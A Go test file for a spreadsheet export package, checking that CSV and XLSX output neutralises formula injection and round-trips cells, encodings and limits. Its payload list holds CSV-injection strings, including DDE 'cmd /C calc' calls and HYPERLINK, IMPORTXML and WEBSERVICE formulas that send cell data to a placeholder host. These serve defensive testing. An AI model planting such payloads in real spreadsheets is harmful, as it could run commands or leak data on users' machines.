package sheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/fukusen/fukusen/node/sheet"
)

// payloads are 200 and more cells that somebody could want to be run: every
// sign, bare and full-width, before every body, some behind space or a mark.
func payloads() []string {
	signs := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u3000=", "\u00a0+", "\u200b=", "\ufeff@", "'=", "''", "'", "\t", "\r", "\n"}
	bodies := []string{
		"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://x.invalid?"&A1,"ここ")`, "SUM(A1:A9)*1", `IMPORTXML(CONCAT("http://x.invalid?",A1),"//a")`,
		"DDE(\"cmd\";\"/C calc\";\"a\")", "WEBSERVICE(\"http://x.invalid\")", "A1;B1,C1\td", "２＋５", "\"quoted\"", "a\r\nb", "",
	}
	var all []string
	for _, sign := range signs {
		for _, body := range bodies {
			all = append(all, sign+body)
		}
	}
	return append(all, "+81-90-1234-5678", "-5", "@handle", "=", "'090", "'abc", "abc'", "a=b", "''''", "sep=;", "_x003D_1+1", "_x005F_x003D_", "_x005F_")
}

// tableOf puts each payload into a header, a first and a last cell.
func tableOf(cells []string) sheet.Table {
	table := sheet.Table{Columns: []string{"=列", "備考", "'末"}}
	for i, cell := range cells {
		table.Rows = append(table.Rows, sheet.Row{Line: i + 2, Cells: []string{cell, "x" + cell, cell}})
	}
	return table
}

// runs is what a spreadsheet program may take for a formula, decided here
// without the code that is tested.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \u3000\u00a0\u200b\ufeff")
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") ||
		strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠")
}

// TestNoCellOfACSVIsRunAndEveryCellComesBack, in both encodings.
func TestNoCellOfACSVIsRunAndEveryCellComesBack(t *testing.T) {
	if n := len(payloads()); n < 200 {
		t.Fatalf("%d payloads", n)
	}
	for _, encoding := range []sheet.Encoding{"", sheet.UTF8BOM, sheet.UTF8} {
		table := tableOf(payloads())
		octets, err := sheet.WriteCSV(table, encoding)
		if err != nil {
			t.Fatal(err)
		}
		if marked := bytes.HasPrefix(octets, []byte("\xef\xbb\xbf")); marked == (encoding == sheet.UTF8) {
			t.Errorf("%q: with a mark: %v", encoding, marked)
		}
		// Another reader shows what the program of an office gets. It reads a
		// CR LF inside a cell as LF, which changes nothing here.
		cells, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(octets, []byte("\xef\xbb\xbf")))).ReadAll()
		if err != nil || len(cells) != len(table.Rows)+1 {
			t.Fatalf("%d lines, %v", len(cells), err)
		}
		for _, line := range cells {
			for _, cell := range line {
				if runs(cell) {
					t.Errorf("%q would be run", cell)
				}
			}
		}
		sameCells(t, table, octets)
	}
}

// TestNoCellOfAWorkbookIsRunAndEveryCellComesBack: every cell is text.
func TestNoCellOfAWorkbookIsRunAndEveryCellComesBack(t *testing.T) {
	table := tableOf(payloads())
	octets, err := sheet.WriteXLSX(table)
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(octets))
	if err != nil {
		t.Fatal(err)
	}
	name := book.GetSheetName(0)
	for line := 1; line <= len(table.Rows)+1; line++ {
		for _, column := range []string{"A", "B", "C"} {
			cell := fmt.Sprint(column, line)
			kind, err := book.GetCellType(name, cell)
			formula, err2 := book.GetCellFormula(name, cell)
			if err = errors.Join(err, err2); err != nil || kind != excelize.CellTypeInlineString || formula != "" {
				t.Errorf("%s is of type %v with formula %q, %v", cell, kind, formula, err)
			}
		}
	}
	sameCells(t, table, octets)
}

// TestAFormulaOfSomebodyElseIsExportedAsText after it came in as text.
func TestAFormulaOfSomebodyElseIsExportedAsText(t *testing.T) {
	table, err := sheet.Read("a.csv", []byte("名,備考\n架空 太郎,=1+1\n"))
	if err != nil || table.Rows[0].Cells[1] != "=1+1" {
		t.Fatalf("read %+v, %v", table, err)
	}
	octets, err := sheet.WriteCSV(table, sheet.ShiftJIS)
	if err != nil || !bytes.Contains(octets, []byte(",\"'=1+1\"\r\n")) {
		t.Errorf("wrote %q, %v", octets, err)
	}
	sameCells(t, table, octets)
}

// sameCells reads what was written and compares the cells.
func sameCells(t *testing.T, table sheet.Table, octets []byte) {
	t.Helper()
	back, err := sheet.Read("back", octets)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back.Columns, table.Columns) || len(back.Rows) != len(table.Rows) {
		t.Fatalf("columns %q, %d rows", back.Columns, len(back.Rows))
	}
	for i, row := range table.Rows {
		if !reflect.DeepEqual(back.Rows[i].Cells, row.Cells) || back.Rows[i].Line != i+2 {
			t.Errorf("%q came back as %q in line %d", row.Cells, back.Rows[i].Cells, back.Rows[i].Line)
		}
	}
}

// TestACharacterWithoutACodeIsReportedAndNeverLost, also where an encoder
// would quietly put another in its place.
func TestACharacterWithoutACodeIsReportedAndNeverLost(t *testing.T) {
	for character, whole := range map[string]string{"𠮷": "𠮷野", "👍": "了解👍", "é": "José", "¥": "¥100", "‾": "‾", "〜": "9時〜"} {
		table := sheet.Table{Columns: []string{"名", "備考"}, Rows: []sheet.Row{{Cells: []string{"a", "b"}}, {Cells: []string{"c", whole}}}}
		_, err := sheet.WriteCSV(table, sheet.ShiftJIS)
		var refusal *sheet.Error
		if !errors.As(err, &refusal) || !errors.Is(err, sheet.ErrUnmappable) || refusal.Line != 3 || refusal.Column != 2 || refusal.Character != character {
			t.Errorf("%s: %v", whole, err)
		}
		octets, err := sheet.WriteCSV(table, "")
		if err != nil {
			t.Errorf("%s: %v", whole, err)
			continue
		}
		sameCells(t, table, octets)
	}
	octets, err := sheet.WriteCSV(sheet.Table{Columns: []string{"髙﨑①", "ｶﾅ～−"}}, sheet.ShiftJIS)
	if !errors.Is(err, sheet.ErrUnmappable) {
		t.Errorf("wrote %q, %v", octets, err)
	}
	table := sheet.Table{Columns: []string{"髙﨑①", "ｶﾅ～－"}}
	if octets, err = sheet.WriteCSV(table, sheet.ShiftJIS); err != nil {
		t.Fatal(err)
	}
	sameCells(t, table, octets)
}

// TestWhatCannotBeReadAgainIsNotWritten.
func TestWhatCannotBeReadAgainIsNotWritten(t *testing.T) {
	cell := func(s string) sheet.Table {
		return sheet.Table{Columns: []string{"a"}, Rows: []sheet.Row{{Cells: []string{s}}}}
	}
	for _, c := range []struct {
		table sheet.Table
		err   error
	}{
		{cell("a\x00"), sheet.ErrControl},
		{cell("a\x0b"), sheet.ErrControl},
		{cell("a\xff"), sheet.ErrControl},
		{cell(strings.Repeat("a", sheet.MaxCell+1)), sheet.ErrCellTooLong},
		{sheet.Table{Columns: make([]string, 1), Rows: make([]sheet.Row, 3)}, nil},
		{sheet.Table{Columns: strings.Split(strings.Repeat("a,", sheet.MaxColumns)+"a", ",")}, sheet.ErrTooManyColumns},
	} {
		_, err := sheet.WriteCSV(c.table, "")
		_, err2 := sheet.WriteXLSX(c.table)
		if !errors.Is(err, c.err) || !errors.Is(err2, c.err) || (c.err == nil) != (err == nil) {
			t.Errorf("%v, %v, not %v", err, err2, c.err)
		}
	}
	if _, err := sheet.WriteCSV(cell("a"), sheet.UTF16LE); !errors.Is(err, sheet.ErrEncoding) {
		t.Error(err)
	}
}

// FuzzRead: whatever comes in ends in a table within the limits or an *Error,
// and a table that was read is written and read again the same.
func FuzzRead(f *testing.F) {
	for _, seed := range [][]byte{
		[]byte(people), []byte("\xef\xbb\xbfa;b\r\n\"=1\";'x\r\n"), []byte("\xff\xfea\x00,\x00b\x00\n\x00"), []byte("\x8e\x81\x96\xbc,\x87\x40\r\n"),
		[]byte("\x1b$B;aL>\x1b(B,a\n"), []byte("%PDF-1.4"), []byte("PK\x03\x04"), []byte("sep=;\na;b"), []byte("<table>"), []byte("\"a"),
	} {
		f.Add(seed)
	}
	if octets, err := sheet.WriteXLSX(tableOf(payloads()[:20])); err == nil {
		f.Add(octets)
	}
	f.Fuzz(func(t *testing.T, octets []byte) {
		table, err := sheet.Read("f", octets)
		if err != nil {
			var refusal *sheet.Error
			if !errors.As(err, &refusal) || refusal.Way() == "" {
				t.Fatalf("%v is no *Error", err)
			}
			return
		}
		if len(table.Rows) > sheet.MaxRows || len(table.Columns) > sheet.MaxColumns {
			t.Fatalf("%d rows, %d columns", len(table.Rows), len(table.Columns))
		}
		for _, write := range []func() ([]byte, error){
			func() ([]byte, error) { return sheet.WriteCSV(table, "") },
			func() ([]byte, error) { return sheet.WriteXLSX(table) },
		} {
			written, err := write()
			if err != nil {
				t.Fatal(err)
			}
			back, err := sheet.Read("b", written)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(back.Columns, table.Columns) || len(back.Rows) != len(table.Rows) {
				t.Fatalf("%q became %q", table.Columns, back.Columns)
			}
			for i := range table.Rows {
				if !reflect.DeepEqual(back.Rows[i].Cells, table.Rows[i].Cells) {
					t.Fatalf("%q became %q", table.Rows[i].Cells, back.Rows[i].Cells)
				}
			}
		}
	})
}
